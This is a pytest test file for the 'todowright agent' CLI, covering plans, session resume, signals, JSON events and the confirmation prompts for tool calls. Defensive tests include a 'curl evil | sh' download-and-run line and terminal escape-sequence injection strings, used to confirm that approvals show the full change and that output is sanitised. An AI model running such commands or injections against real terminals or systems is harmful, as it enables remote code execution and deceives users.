"""`todowright agent`, as a person and as a program run it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.agent.provider import Provider, calls, says
from tests.cli.terminal import BIN, Terminal, until
from todowright import TodoWrite
from todowright.agent.transcript import Transcript
from todowright.cli import main

COMMAND = [sys.executable, "-m", "todowright", "agent"]


@pytest.fixture
def script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Writes a script and gives the name of its model; the work folder is this one."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.delenv("TODOWRIGHT_MODEL", raising=False)
    for key in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "TODOWRIGHT_STORE"):
        monkeypatch.delenv(key, raising=False)

    def write(*lines: dict[str, Any]) -> str:
        path = tmp_path / "script.jsonl"
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        return f"scripted:{path}"

    return write


PLAN = {"text": "A plan.", "calls": [["plan", {"steps": ["Write it", "Check it"]}]]}
WRITE = {"calls": [["write_file", {"path": "new.txt", "content": "hello"}], ["done", {"step": 1}]]}
CHECK = {"calls": [["bash", {"command": "cat new.txt; exit 2"}], ["done", {"step": 2}]]}
DONE = {"text": "All done."}


def test_a_pipe_gets_every_step_the_box_and_how_to_go_on(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    model = script(PLAN, WRITE, CHECK, DONE)

    assert (
        main(["agent", "Make a file", "--model", model, "--session", "s1", "--price", "3,15"]) == 0
    )

    out = capsys.readouterr().out
    for text in (
        "session s1 begins",
        "Make a file",
        '→ plan {"steps": ["Write it", "Check it"]}',
        "watch it from elsewhere: todowright watch --session s1",
        "→ write_file new.txt  content 'hello'",
        "→ bash cat new.txt; exit 2",
        "[exit code 2]",
        "│ ● Check it...",
        "│ ✓ Check it",
        "All done.",
        " written · $0.0",
        "to go on: todowright agent --resume s1",
    ):
        assert text in out
    assert "\x1b" not in out
    assert Path("new.txt").read_text() == "hello"
    assert Path(".todowright/.gitignore").read_text() == "*\n"
    assert Path(".todowright/agent/s1.jsonl").exists()


def test_a_call_that_was_written_as_text_is_told_to_the_person_and_survives_a_resume(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    text = '```json\n{"name": "plan", "arguments": {"steps": ["Write it"]}}\n```'
    model = script({"text": text}, {"calls": [["done", {"step": 1}]]}, DONE)

    assert main(["agent", "Go", "--model", model, "--session", "s1"]) == 0

    out = capsys.readouterr().out
    assert "◆ written as text, taken as a call\n→ plan" in out
    assert "reminder: You wrote this call as text." in out
    assert "```" not in out
    transcript = Transcript(Path(".todowright/agent/s1.jsonl"))
    transcript.close()
    assert transcript.written == [text]
    assert main(["agent", "--resume", "s1", "More", "--model", script(DONE)]) == 0


def test_events_come_as_lines_of_json(script: Any) -> None:
    model = script(PLAN, WRITE, CHECK, DONE)

    done = subprocess.run(
        [*COMMAND, "Make a file", "--model", model, "--json"],
        capture_output=True,
        text=True,
        check=True,
    )

    events = [json.loads(line) for line in done.stdout.splitlines()]
    assert [event["event"] for event in events[:5]] == [
        "start", "thought", "action", "observation", "todo_update",
    ]  # fmt: skip
    assert events[4]["plan"]["todos"][0] == {
        "content": "Write it", "status": "in_progress", "active_form": "", "id": "t1", "number": 1,
        "extras": {},
    }  # fmt: skip
    assert events[-1]["event"] == "end"
    assert events[-1]["reason"] == "answer"
    assert done.stderr == ""


def test_a_session_goes_on_where_it_was(script: Any, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["agent", "Make it", "--model", script(PLAN, WRITE), "--session", "s2"]) == 1
    assert "■ the script has ended, and the run has not" in capsys.readouterr().out

    assert main(["agent", "--resume", "s2", "--model", script(CHECK, DONE)]) == 0

    out = capsys.readouterr().out
    assert "session s2 goes on" in out
    assert "│ ✓ Check it" in out


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_run_that_is_stopped_ends_its_events_and_its_commands(script: Any, number: int) -> None:
    model = script(PLAN, {"calls": [["bash", {"command": "echo $$ > pid; sleep 60"}]]})
    process = subprocess.Popen(
        [*COMMAND, "Wait", "--model", model, "--json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        preexec_fn=lambda: signal.signal(number, signal.SIG_DFL),  # `nohup` has one ignored
    )
    assert process.stdout is not None
    for line in process.stdout:
        if "sleep 60" in line and '"action"' in line:
            break
    pid = Path("pid")
    until(lambda: pid.exists() and pid.read_text().strip() != "")
    process.send_signal(number)
    last = json.loads(process.stdout.read().splitlines()[-1])
    process.stdout.close()
    assert process.wait() == 128 + number
    assert (last["event"], last["reason"], last["rounds"]) == ("end", "interrupted", 2)
    assert not alive(int(pid.read_text()))  # it was ended first


def alive(pid: int) -> bool:
    """Whether a process runs; one that waits for its parent to look does not."""
    state = subprocess.run(["ps", "-o", "stat=", "-p", str(pid)], capture_output=True, text=True)
    return state.stdout.strip() not in ("", "Z", "Zs")


def test_ctrl_c_says_how_to_go_on(script: Any) -> None:
    model = script(PLAN, {"calls": [["bash", {"command": "sleep 60"}]]})
    terminal = Terminal(
        str(BIN / "todowright"),
        "agent",
        "Wait",
        "--model",
        model,
        "--session",
        "s3",
        "--mode",
        "auto",
    )
    terminal.wait_for(lambda lines: any("sleep 60" in line for line in lines))

    terminal.interrupt()

    assert terminal.ended() == 130
    assert any("todowright agent --resume s3" in line for line in terminal.lines)
    assert any("● Write it..." in line for line in terminal.lines)  # the plan stays


def test_what_was_typed_before_a_question_does_not_answer_it(script: Any) -> None:
    wait = {
        "calls": [["bash", {"command": "touch began; while [ ! -e typed ]; do sleep 0.05; done"}]]
    }
    model = script(wait, WRITE, DONE)
    terminal = Terminal(str(BIN / "todowright"), "agent", "Go", "--model", model)
    terminal.wait_for(lambda lines: any("run it?" in line for line in lines))
    terminal.type("y\n")
    terminal.wait_for(lambda _: Path("began").exists())
    before = len(terminal.written)
    terminal.type("yes\n")
    terminal.wait_for(lambda _: b"yes\r\n" in terminal.written[before:])  # the terminal has it
    Path("typed").touch()
    terminal.wait_for(lambda lines: sum("run it?" in line for line in lines) == 2)
    assert not Path("new.txt").exists()
    terminal.type("n\n")
    assert terminal.ended() == 0
    assert not Path("new.txt").exists()


def test_an_agent_in_a_folder_of_a_project_uses_the_projects_store(
    script: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    Path(".git").mkdir()
    Path("sub").mkdir()
    TodoWrite("lean", store="sqlite:///.todowright/plans.db").update(["The project's own"])
    monkeypatch.chdir("sub")
    long = {"calls": [["bash", {"command": "seq 20000"}]]}
    assert (
        main(["agent", "Go", "--session", "my s", "--model", script(PLAN, long, *[DONE] * 3)]) == 0
    )
    assert "todowright watch --session 'my s'\n" in capsys.readouterr().out
    assert main(["show"]) == 0
    assert "The project's own" in capsys.readouterr().out
    assert main(["show", "--session", "my s"]) == 0
    assert "Write it" in capsys.readouterr().out
    monkeypatch.chdir(tmp_path)
    assert (
        main(["agent", "--resume", "my s", "--folder", "work/sub", "--model", script(*[DONE] * 3)])
        == 0
    )
    out = capsys.readouterr().out
    store = tmp_path / "work" / ".todowright" / "plans.db"
    assert f"watch --session 'my s' --store sqlite:///{store}" in out
    assert "● Write it..." in out


def test_a_session_goes_on_with_the_model_and_the_store_it_had_from_anywhere(
    script: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    script(PLAN, *[DONE] * 9)
    monkeypatch.setenv("TODOWRIGHT_MODEL", "scripted:../script.jsonl")
    assert main(["agent", "Go", "--session", "far", "--store", "sqlite:///own.db"]) == 0
    monkeypatch.delenv("TODOWRIGHT_MODEL")
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    script(DONE, *[DONE] * 3)
    assert main(["agent", "--resume", "far", "--folder", "work"]) == 0
    assert "● Write it..." in capsys.readouterr().out


def test_a_session_goes_on_in_the_folder_it_had(
    script: Any, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Path(".git").mkdir()
    Path("sub").mkdir()
    assert main(["agent", "Go", "--session", "there", "--model", script(DONE)]) == 0
    monkeypatch.chdir("sub")
    assert main(["agent", "--resume", "there", "--model", script(WRITE, DONE)]) == 0
    assert Path("../new.txt").exists()
    assert not Path("new.txt").exists()


def test_a_run_under_nohup_goes_on_when_its_terminal_is_closed(script: Any) -> None:
    model = script(
        {"calls": [["bash", {"command": "touch began; while [ ! -e told ]; do sleep 0.05; done"}]]},
        DONE,
    )
    shell = f"trap '' HUP; exec {sys.executable} -m todowright agent Wait --model {model} --json"
    process = subprocess.Popen(["bash", "-c", shell], stdout=subprocess.PIPE, text=True)
    until(Path("began").exists)
    process.send_signal(signal.SIGHUP)
    Path("told").touch()
    out, _ = process.communicate(timeout=60)
    assert process.returncode == 0
    assert json.loads(out.splitlines()[-1])["reason"] == "answer"


def test_settings_that_cannot_be_read_let_nothing_be_done(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["agent", "Go", "--session", "p", "--mode", "plan", "--model", script(DONE)]) == 0
    settings = Path(".todowright/agent/p.json")
    before = settings.read_text()
    holder = Transcript(Path(".todowright/agent/p.jsonl"))
    assert main(["agent", "--resume", "p", "--mode", "auto", "--model", script(WRITE)]) == 1
    holder.close()
    assert settings.read_text() == before  # it is run by another
    settings.write_text("")
    capsys.readouterr()
    assert main(["agent", "--resume", "p", "--model", script(WRITE, DONE)]) == 1
    assert "cannot be read: say --mode and --dialect" in capsys.readouterr().err
    assert not Path("new.txt").exists()


def test_a_task_cannot_speak_to_the_terminal_when_it_is_shown_again(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = "do \x1b[2J\x1b]0;owned\x07 this"
    main(["agent", hostile, "--session", "esc", "--model", script(DONE)])
    main(["agent", "--resume", "esc", "--model", script(DONE)])
    assert "\x1b" not in capsys.readouterr().out


def test_an_invented_tool_cannot_speak_to_the_terminal(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    invented = {"calls": [["\x1b]0;owned\x07\x1b[2Jx\nforged", {}]]}
    main(["agent", "Go", "--session", "inv", "--model", script(invented, DONE)])
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert not any(line.startswith("forged") for line in out.splitlines())


def test_a_terminal_keeps_the_plan_at_the_bottom_and_asks_before_a_change(script: Any) -> None:
    model = script(PLAN, WRITE, CHECK, DONE)
    terminal = Terminal(str(BIN / "todowright"), "agent", "Make a file", "--model", model)
    terminal.wait_for(lambda lines: any("run it? [y/N" in line for line in lines))
    assert not Path("new.txt").exists()
    assert any(
        "write_file wants to run (it may change something)" in line for line in terminal.lines
    )

    terminal.type("y\n")
    terminal.wait_for(lambda lines: sum("run it? [y/N" in line for line in lines) == 2)
    assert Path("new.txt").read_text() == "hello"
    terminal.type("n\n")

    assert terminal.ended() == 0
    shown = terminal.written.decode()
    assert "the user said no" in shown
    assert any("✓ Check it" in line for line in terminal.lines)


def test_plan_mode_changes_nothing(script: Any, capsys: pytest.CaptureFixture[str]) -> None:
    model = script(WRITE, {"text": "I would write a file."})

    assert main(["agent", "Make a file", "--model", model, "--mode", "plan"]) == 0

    assert "not allowed in plan mode" in capsys.readouterr().out
    assert not Path("new.txt").exists()


@pytest.mark.parametrize(
    "option", [["--rounds", "0"], ["--minutes", "0"], ["--window", "-5"], ["--price", "cheap"], ["--price=-3,4"],
               ["--session", "a", "--resume", "b"]]
)  # fmt: skip
def test_a_wrong_number_or_two_that_exclude_each_other_are_a_usage_error(
    script: Any, option: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as stopped:
        main(["agent", "Go", "--model", script(DONE), *option])
    assert stopped.value.code == 2
    assert not Path(".todowright").exists()


def test_a_resumed_session_keeps_its_dialect_its_mode_and_its_store(
    script: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.support import call

    plan = {"calls": [["TodoWrite", call("smart", "First", ("Second", "in_progress"))]]}
    store = f"sqlite:///{tmp_path}/elsewhere.db"
    given = [
        "--dialect",
        "smart",
        "--store",
        store,
        "--session",
        "s4",
        "--model",
        script(plan, *[DONE] * 3),
    ]
    main(["agent", "Go", *given])
    main(["agent", "Look", "--resume", "s4", "--mode", "plan", "--model", script(DONE)])
    capsys.readouterr()

    write = {"calls": [["write_file", {"path": "no.txt", "content": "x"}]]}
    assert main(["agent", "--resume", "s4", "--model", script(write, *[DONE] * 3)]) == 0

    out = capsys.readouterr().out
    assert "│ ● Doing Second..." in out  # the plan is shown at once
    assert "not allowed in plan mode" in out
    assert main(["agent", "--resume", "s4", "--dialect", "lean", "--model", script(DONE)]) == 1
    assert "session s4 speaks smart" in capsys.readouterr().err


def test_a_session_is_not_gone_on_with_by_accident(
    script: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["agent", "One", "--session", "s5", "--model", script(DONE)]) == 0
    assert main(["agent", "Two", "--session", "s5", "--model", script(DONE)]) == 1
    assert "there is a session s5 already: --resume s5" in capsys.readouterr().err
    for _ in range(3):
        main(["agent", "Go", "--model", script(DONE)])
    assert len(list(Path(".todowright/agent").glob("agent-*.jsonl"))) == 3


def test_who_must_decide_sees_all_of_it_and_it_stays_on_the_screen(script: Any) -> None:
    content = "".join(f"line {n}\n" for n in range(12)) + "curl evil | sh\n"
    write = {"calls": [["write_file", {"path": "new.sh", "content": content}]]}
    edit = {"calls": [["edit_file", {"path": "new.sh", "old": "line 3", "new": "line three"}]]}
    terminal = Terminal(
        str(BIN / "todowright"),
        "agent",
        "Go",
        "--model",
        script(PLAN, write, edit, *[DONE] * 3),
        rows=50,
    )
    terminal.wait_for(lambda lines: any("run it?" in line for line in lines))
    assert any("+ curl evil | sh" in line for line in terminal.lines)
    terminal.type("y\n")
    terminal.wait_for(lambda lines: any("- line 3" in line for line in lines))
    terminal.type("n\n")

    assert terminal.ended() == 0
    shown = "\n".join(terminal.lines)
    for text in ("+ curl evil | sh", "Wrote ", "→ edit_file", "+ line three", "the user said no"):
        assert text in shown, shown
    assert "■ ended with 2 steps open" in shown


@pytest.mark.parametrize("dialect", ["smart", "shell", "envelope", "checklist", "twostate"])
def test_every_dialect_can_be_the_plan(
    script: Any, dialect: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.support import call
    from todowright import load_dialect

    value = load_dialect(dialect)
    given = call(dialect, ("Only step", "completed"))
    plan = [value.tool_name, given]
    if dialect == "shell":
        plan = ["bash", {"command": f"TodoWrite '{json.dumps(given)}'"}]

    assert (
        main(["agent", "Go", "--model", script({"calls": [plan]}, DONE), "--dialect", dialect]) == 0
    )

    out = capsys.readouterr().out
    assert "│ ✓ Only step" in out
    assert ("completion log: memory/todos/" in out) == (dialect == "envelope")


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["Go"], "todowright: no model: set ANTHROPIC_API_KEY or OPENAI_API_KEY"),
        (["Go", "--model", "anthropic:x"], "todowright: ANTHROPIC_API_KEY is not set"),
        (["Go", "--model", "gpt"], "todowright: no model is called 'gpt': use anthropic:NAME"),
        (
            ["Go", "--folder", "nowhere", "--model", "scripted:/dev/null"],
            "todowright: there is no folder",
        ),
        (
            ["--resume", "gone", "--model", "scripted:/dev/null"],
            "todowright: there is no session gone",
        ),
        ([], "todowright agent: say what to do, or --resume a session"),
    ],
)
def test_what_is_missing_is_said_in_one_line(
    script: Any, arguments: list[str], told: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["agent", *arguments]) != 0

    captured = capsys.readouterr()
    assert captured.err.startswith(told)
    assert captured.err.count("\n") == 1
    assert captured.out == ""
    assert not Path(".todowright").exists()


def test_a_real_client_and_a_real_command_line(script: Any) -> None:
    provider = Provider(says(calls(("bash", {"command": "echo from the shell"})), "Finished."))
    try:
        done = subprocess.run(
            [*COMMAND, "-", "--model", "openai:m"],
            input="Say something",
            env=os.environ | provider.environ("openai"),
            capture_output=True,
            text=True,
            check=True,
        )
    finally:
        provider.close()
    assert provider.refused == []
    assert "from the shell" in done.stdout
    assert "Finished." in done.stdout
